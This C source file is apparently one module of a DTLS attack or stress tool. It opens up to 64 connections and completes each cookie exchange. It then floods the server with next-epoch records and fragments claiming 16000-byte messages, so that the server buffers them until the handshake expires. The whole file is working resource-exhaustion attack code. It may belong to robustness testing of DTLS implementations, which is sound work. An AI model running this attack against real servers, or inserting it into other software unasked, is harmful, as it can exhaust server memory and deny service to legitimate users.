// Handshakes that stop after the hello with the cookie, and send what only comes later: records of the next epoch, and
// the first bytes of messages that say they are long. Each may be kept until the handshake ends.
#include "attack.h"

#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum {
    PEERS = 64,
    PAUSE_US = 2000,
    DATAGRAM_BYTES = 13 + 64,
    RECORD_HANDSHAKE = 22,
    MESSAGE_FINISHED = 20,
    LONG_MESSAGES = 10
};
#define LIFE_S 9.0
#define STEP_S 0.05

static size_t put(uint8_t *out, size_t at, uint64_t value, int bytes)
{
    for (int i = bytes - 1; i >= 0; i--) {
        out[at++] = (uint8_t)(value >> 8 * i);
    }
    return at;
}

static void send_early(attack *a, const peer *p, int number)
{
    uint8_t data[DATAGRAM_BYTES];
    bool next_epoch = number >= LONG_MESSAGES;
    memset(data, 0x5a, sizeof data);
    size_t at = put(data, 0, RECORD_HANDSHAKE, 1);
    at = put(data, at, 0xfefd, 2);
    at = put(data, at, next_epoch, 2);
    at = put(data, at, (uint64_t)number + 10, 6);
    at = put(data, at, DATAGRAM_BYTES - 13, 2);
    if (!next_epoch) {
        at = put(data, at, MESSAGE_FINISHED, 1);
        at = put(data, at, 16000, 3);
        at = put(data, at, (uint64_t)number + 3, 2);
        at = put(data, at, 0, 3);
        put(data, at, DATAGRAM_BYTES - 13 - 12, 3);
    }
    a->sent += send(p->fd, data, sizeof data, MSG_DONTWAIT) > 0;
}

void attack_bloat(attack *a)
{
    static peer peers[PEERS];
    static int steps[PEERS]; // 1: the hello was sent; from 2 on, the one with the cookie too
    static double sent_s[PEERS];
    while (attack_goes_on(a)) {
        for (int i = 0; i < PEERS; i++) {
            double now_s = attack_now_s();
            char byte;
            if (peers[i].state == PEER_CLOSED || (peers[i].state != PEER_NONE && now_s > peers[i].since_s + LIFE_S)) {
                peer_end(&peers[i]);
            }
            if (peers[i].state == PEER_NONE) {
                if (!peer_begin(a, &peers[i])) {
                    continue;
                }
                steps[i] = 1;
                peer_step(a, &peers[i]);
            } else if (steps[i] == 1 && recv(peers[i].fd, &byte, 1, MSG_PEEK) > 0) {
                steps[i] = 2;
                peer_step(a, &peers[i]);
            } else if (steps[i] >= 2 && now_s > sent_s[i] + STEP_S) {
                sent_s[i] = now_s;
                send_early(a, &peers[i], steps[i]++ - 2);
            }
        }
        usleep(PAUSE_US);
    }
    for (int i = 0; i < PEERS; i++) {
        peer_end(&peers[i]);
    }
}
